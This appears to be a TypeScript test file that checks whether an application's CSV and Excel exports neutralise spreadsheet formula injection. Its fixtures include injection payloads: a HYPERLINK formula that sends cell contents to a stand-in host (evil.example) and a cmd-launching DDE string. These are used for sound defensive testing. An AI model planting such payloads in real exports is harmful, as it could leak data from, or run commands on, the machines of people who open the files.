import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import ExcelJS from 'exceljs'
import { saveIndicator } from '../../src/results/results.repository.ts'
import { buildFeedbackProject, type BuiltProject } from '../fixtures/feedback-builder.ts'
import { buildSurvey, sampleQuestions, type BuiltSurvey } from '../fixtures/survey-builder.ts'
import { formBody } from '../helpers/respondent.ts'
import { signedIn } from '../helpers/staff.ts'
import { agentFor, createTestApp, csrfToken, type TestApp } from '../helpers/test-app.ts'
import { binary, downloadZip } from '../helpers/zip.ts'

let t: TestApp
let survey: BuiltSurvey
let project: BuiltProject

// What a spreadsheet would run: a formula at the start of a cell, or after the list separator of
// es/fr/pt spreadsheets (;), which splits an unquoted field into cells of its own.
const hostile = [
  '=HYPERLINK("http://evil.example/?"&A1,"ver")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  'Bien;=1+1;@x',
  '\t=1+1',
]

beforeAll(async () => {
  t = await createTestApp()
  // Question texts as a careless (or hostile) designer might write them.
  survey = await buildSurvey(t.services.db, {
    status: 'closed',
    questions: sampleQuestions.map((q, i) => {
      const text = hostile[i % hostile.length]!
      return { ...q, text: { es: text, fr: text, pt: text } }
    }),
  })
  project = await buildFeedbackProject(t.services.db)
})
afterAll(() => t.close())

/** Every cell of a CSV as Excel or LibreOffice would split it with either separator. */
function cellsOf(csv: string): string[] {
  const text = csv.replace(/^\uFEFF/, '')
  return [',', ';'].flatMap((delimiter) =>
    parse(text, { delimiter, relax_column_count: true, relax_quotes: true }).flat(),
  )
}

/** A cell a spreadsheet would evaluate: it starts with = + - @ (or a tab or return before one), and is no plain number. */
const runsAsFormula = (cell: string) =>
  /^[\t\r]*[=+\-@]/.test(cell) && !/^[+-]?\d+(\.\d+)?(e[+-]?\d+)?$/i.test(cell)

describe('every CSV Pulso writes keeps text as text', () => {
  it('guards question texts in the microdata codebook, whatever separator the spreadsheet uses', async () => {
    const evaluator = await signedIn(t.app, t.services, survey.organizationId, 'evaluator')
    const { status, files } = await downloadZip(evaluator.agent, '/staff/results/perception/microdata.zip')
    expect(status).toBe(200)
    const codebook = [...files.entries()].find(([name]) => name.endsWith('codebook.csv'))![1]
    // Each text is all there, once the quotes that keep it inert are taken away.
    const texts = parse(codebook).map((row) => row[3]!.replace(/(^|;)'/g, '$1'))
    for (const text of hostile) expect(texts).toContain(text)
    for (const [name, content] of files)
      if (name.endsWith('.csv'))
        for (const cell of cellsOf(content)) expect(runsAsFormula(cell), `${name}: ${cell}`).toBe(false)
  })

  it('guards published stories in stories.csv and responses.csv, after a ; too', async () => {
    const agent = agentFor(t.app)
    const page = await agent.get(`/f/${project.code}`)
    const submission = /name="submission" value="([^"]+)"/.exec(page.text)![1]!
    const posted = await agent
      .post(`/f/${project.code}`)
      .type('form')
      .send(
        formBody({
          _csrf: csrfToken(page.text),
          submission,
          a_life_change: '4',
          a_recommend: 'yes',
          a_story: 'El agua llegó;=HYPERLINK("http://evil.example","premio");@SUM(1)',
          publish: 'yes',
          contact_ok: 'no',
        }),
      )
    expect(posted.status).toBe(303)
    const { id } = await t.services.db
      .selectFrom('feedback')
      .select('id')
      .orderBy('id', 'desc')
      .limit(1)
      .executeTakeFirstOrThrow()
    const moderator = await signedIn(t.app, t.services, project.organizationId, 'designer')
    await moderator.get(`/staff/feedback/${id}`)
    const approved = await moderator.post(`/staff/feedback/${id}/review`, {
      decision: 'approved',
      confirm_personal_data: 'yes',
    })
    expect(approved.status).toBe(303)

    for (const file of ['stories.csv', 'responses.csv', 'results.csv']) {
      const res = await moderator.agent.get(`/staff/projects/${project.code}/${file}`)
      expect(res.status).toBe(200)
      if (file !== 'results.csv') expect(res.text).toContain('El agua llegó')
      for (const cell of cellsOf(res.text)) expect(runsAsFormula(cell), `${file}: ${cell}`).toBe(false)
    }
  })

  it('guards indicator labels in the trends workbook, whose cells are text, never formulas', async () => {
    await saveIndicator(t.services.db, survey.seriesId, {
      code: 'aware_yes',
      questionCode: 'aware',
      kind: 'share',
      successCodes: ['yes'],
      excludedCodes: [],
      label: { es: hostile[0]!, fr: hostile[4]!, pt: hostile[3]! },
    })
    const evaluator = await signedIn(t.app, t.services, survey.organizationId, 'evaluator')
    const res = await evaluator.agent.get('/staff/results/perception/trends.xlsx').buffer(true).parse(binary)
    expect(res.status).toBe(200)
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load(res.body as never)
    const texts: string[] = []
    workbook.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)
          if (typeof cell.value === 'string') texts.push(cell.value)
        }),
      ),
    )
    expect(texts.some((text) => text.includes('HYPERLINK'))).toBe(true)
    for (const text of texts) expect(runsAsFormula(text), text).toBe(false)
  })
})
